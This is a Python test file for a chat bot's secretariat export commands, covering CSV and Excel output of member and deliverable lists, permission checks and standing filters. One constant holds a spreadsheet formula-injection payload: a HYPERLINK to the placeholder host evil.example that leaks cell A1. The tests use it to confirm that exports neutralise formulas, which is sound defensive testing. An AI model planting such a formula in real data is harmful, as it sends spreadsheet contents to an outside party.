"""The secretariat's lists as files: read back by the csv module and by openpyxl, as the
Commission's staff would open them."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from bot.router import Router
from storage.models import OrganisationStatus
from tests.alliance import member_organisation, message, person

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


@pytest.fixture
def settings(settings, tmp_path):
    return settings.model_copy(update={"files": settings.files.model_copy(update={"path": tmp_path / "files"})})


@pytest.fixture
async def alliance(db):
    acme = await member_organisation(db, "ACME GmbH", joins=("pfas", "skills"))
    await member_organisation(db, HOSTILE, joins=("pfas",), country="FR")
    await person(db, "Jana Novak", organisation=acme, accounts=("console:jana",), roles=("chair:pfas",))
    await person(db, "Piet Jansen", organisation=acme)
    await person(db, "Sam", accounts=("console:sam",), roles=("secretariat",))


async def export(router: Router, text: str):
    reply = await router.handle(message(text, sender="sam", room="secretariat"))
    assert reply is not None and reply.file is not None, reply
    return reply


async def test_the_members_list_reads_back_as_csv_and_as_a_workbook_with_no_formula(router, alliance):
    reply = await export(router, "/export members")
    assert reply.file.name.startswith("members-") and reply.file.media_type == "text/csv"
    rows = {r["organisation"]: r for r in csv.DictReader(io.StringIO(reply.file.content.decode("utf-8-sig")))}
    assert rows["ACME GmbH"] == {
        "organisation": "ACME GmbH",
        "country": "DE",
        "kind": "industry",
        "standing": "member",
        "groups": "pfas; skills",
        "representatives": "Jana Novak; Piet Jansen",
    }
    assert rows["'" + HOSTILE]["country"] == "FR"  # starts with ': text to a spreadsheet, not a formula

    workbook = await export(router, "/export members as=xlsx")
    assert workbook.file.name.endswith(".xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.file.content))["members"]
    assert next(sheet.iter_rows(values_only=True)) == (
        "organisation",
        "country",
        "kind",
        "standing",
        "groups",
        "representatives",
    )
    hostile = next(row for row in range(2, sheet.max_row + 1) if sheet.cell(row=row, column=2).value == "FR")
    assert sheet.cell(row=hostile, column=1).value == HOSTILE and sheet.cell(row=hostile, column=1).data_type == "s"


async def test_the_deliverables_list_names_versions_and_contributors(router, alliance):
    chair = lambda text: router.handle(message(text, sender="jana", room="pfas"))  # noqa: E731
    await chair('/deliverable new "PFAS roadmap" due=2027-03-31')
    await chair("/draft 1 First words.")
    await chair("/draft 1 Better words.")
    rows = list(
        csv.DictReader(io.StringIO((await export(router, "/export deliverables")).file.content.decode("utf-8-sig")))
    )
    assert [(r["deliverable"], r["group"], r["title"], r["status"], r["due"], r["versions"]) for r in rows] == [
        ("1", "pfas", "PFAS roadmap", "drafting", "2027-03-31", "2")
    ]
    assert rows[0]["contributors"] == "Jana Novak (ACME GmbH)"


async def test_the_members_list_holds_member_organisations_unless_every_standing_is_asked_for(db, router, alliance):
    await member_organisation(db, "Paused AG", status=OrganisationStatus.SUSPENDED)
    await member_organisation(db, "Hopeful SRL", status=OrganisationStatus.APPLICANT)
    await member_organisation(db, "Consult Ltd", status=OrganisationStatus.NON_MEMBER)

    def standings(reply) -> dict[str, str]:
        return {
            r["organisation"]: r["standing"]
            for r in csv.DictReader(io.StringIO(reply.file.content.decode("utf-8-sig")))
        }

    listed = standings(await export(router, "/export members"))
    assert listed == {"ACME GmbH": "member", "'" + HOSTILE: "member", "Paused AG": "suspended"}  # a formula made inert
    everyone = standings(await export(router, "/export members standing=all"))
    assert everyone["Hopeful SRL"] == "applicant" and everyone["Consult Ltd"] == "non-member" and len(everyone) == 5
    assert standings(await export(router, "/export members standing=applicant")) == {"Hopeful SRL": "applicant"}
    refused = await router.handle(message("/export attendance standing=all", sender="sam", room="secretariat"))
    assert refused.text.startswith("standing= chooses which organisations /export members lists")


async def test_only_the_secretariat_exports(router, alliance):
    refused = await router.handle(message("/export members", sender="jana", room="pfas"))
    assert refused.file is None and refused.text.startswith("Only the secretariat may do this.")
    unknown = await router.handle(message("/export ballots", sender="sam", room="secretariat"))
    assert unknown.text.startswith("'ballots' is not a list I can export: members, attendance, deliverables.")
